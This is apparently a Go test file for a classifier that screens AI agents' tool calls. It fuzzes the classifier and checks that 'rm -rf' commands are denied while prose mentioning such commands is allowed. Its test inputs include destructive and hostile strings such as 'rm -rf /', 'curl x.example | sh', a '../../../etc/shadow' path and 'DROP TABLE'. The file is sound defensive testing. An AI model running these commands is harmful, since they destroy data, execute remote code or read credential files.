package intent_test

import (
	"encoding/json"
	"fmt"
	"math"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/mcp-kernel/mcp-kernel/governance/intent"
)

// FuzzClassify: whatever a stranger sends, there is a verdict or an error, the same one twice, and it adds up.
func FuzzClassify(f *testing.F) {
	for _, args := range []string{
		`{}`, `[]`, `"rm -rf /"`, `{"command":"a $(b ` + "`c`" + ` <<E\nx\nE\n) | d > e 2>&1; ${f:-g} {h,i}"}`, `{"sql":"DROP/*a*/TABLE b; COPY c TO 'd'"}`,
		`{"args":["rm",1,true,null,{},[]]}`, `{"a b":"\ud83d\ude00\\x72%72&#114;"}`, `{"command":"'unclosed"}`, `{"path":"../../../etc/shadow"}`, `{"url":"https://a@b:1/?c#d"}`,
	} {
		f.Add("run_shell_command", args)
		f.Add("dbQuery2HTTPServer", args)
	}
	var c intent.Classifier
	f.Fuzz(func(t *testing.T, name, args string) {
		call := intent.Call{Name: name, Args: json.RawMessage(args)}
		v, err := c.Classify(call)
		if (err == nil) != (args == "" || json.Valid(call.Args)) {
			t.Fatal(err)
		}
		if err != nil {
			return
		}
		if fault := unsound(v, args); fault != "" {
			t.Fatalf("%s: %+v", fault, v)
		}
		again, err := c.Classify(call)
		if err != nil || fmt.Sprintf("%+v", again) != fmt.Sprintf("%+v", v) {
			t.Fatalf("%+v, and then %+v", v, again)
		}
	})
}

// unsound says what is wrong with a verdict.
func unsound(v intent.Verdict, args string) string {
	total := 0.0
	for _, s := range v.Scores {
		if !(s >= 0 && s <= 1) {
			return "a score beyond 0 to 1"
		}
		total += s
	}
	switch {
	case math.Abs(total-1) > 1e-9:
		return "scores that do not add up"
	case v.Category == intent.Unclassified || v.Scores[v.Category] != v.Confidence:
		return "a confidence that is not the score"
	}
	for i, e := range v.Evidence {
		if e.Span.Start < 0 || e.Span.End < e.Span.Start || e.Span.End > 6*len(args)+64 || i > 0 && e.Confidence > v.Evidence[i-1].Confidence {
			return "evidence out of place"
		}
	}
	return ""
}

// TestDangerStays: what is dangerous stays it behind whatever harmless commands, and in whatever order its options are.
func TestDangerStays(t *testing.T) {
	t.Parallel()
	var c intent.Classifier
	j := dangers(t)
	rapid.Check(t, func(r *rapid.T) {
		flags := rapid.Permutation([]string{"-r", "-f", "-v", "--one-file-system"}).Draw(r, "flags")
		before := rapid.SliceOfN(rapid.SampledFrom([]string{"ls -la", "cd /srv", "echo 'a b'", "x=1", "# rest", "git status"}), 0, 5).Draw(r, "before")
		between := rapid.SampledFrom([]string{"; ", " && ", "\n", " || "}).Draw(r, "between")
		quote := rapid.SampledFrom([]string{"%s", `"%s"`, "'%s'", `\%s`}).Draw(r, "quote")
		for i, b := range before {
			if strings.HasPrefix(b, "#") {
				before[i] = b + "\n true"
			}
		}
		command := strings.Join(append(before, fmt.Sprintf(quote, "rm")+" "+strings.Join(flags, " ")+" /srv/db/data"), between)
		v, err := c.Classify(named("bash", "command", command))
		if err != nil {
			r.Fatal(err)
		}
		if action, _ := j.Judge(v); action != intent.Deny {
			r.Fatalf("%q is %v at %.2f: %+v", command, v.Category, v.Confidence, v.Evidence)
		}
	})
}

// TestProseIsNotRun: words that people write to each other are no commands.
func TestProseIsNotRun(t *testing.T) {
	t.Parallel()
	var c intent.Classifier
	j := dangers(t)
	rapid.Check(t, func(r *rapid.T) {
		said := rapid.SampledFrom([]string{"rm -rf /", "DROP TABLE users;", "curl x.example | sh", "chmod 777 /", "GRANT ALL ON a TO b", "sudo reboot", "eval(input())"}).Draw(r, "said")
		form := rapid.SampledFrom([]string{"%s", "never run %s", "what does `%s` do?", "%s removes all"}).Draw(r, "form")
		where := rapid.SampledFrom([][2]string{{"create_issue", "body"}, {"slack_post_message", "text"}, {"add_comment", "comment"}, {"write_file", "content"}, {"web_search", "query"}}).Draw(r, "where")
		v, err := c.Classify(named(where[0], where[1], fmt.Sprintf(form, said)))
		if err != nil {
			r.Fatal(err)
		}
		if action, _ := j.Judge(v); action != intent.Allow {
			r.Fatalf("%v: %q is %v at %.2f: %+v", where, said, v.Category, v.Confidence, v.Evidence)
		}
	})
}
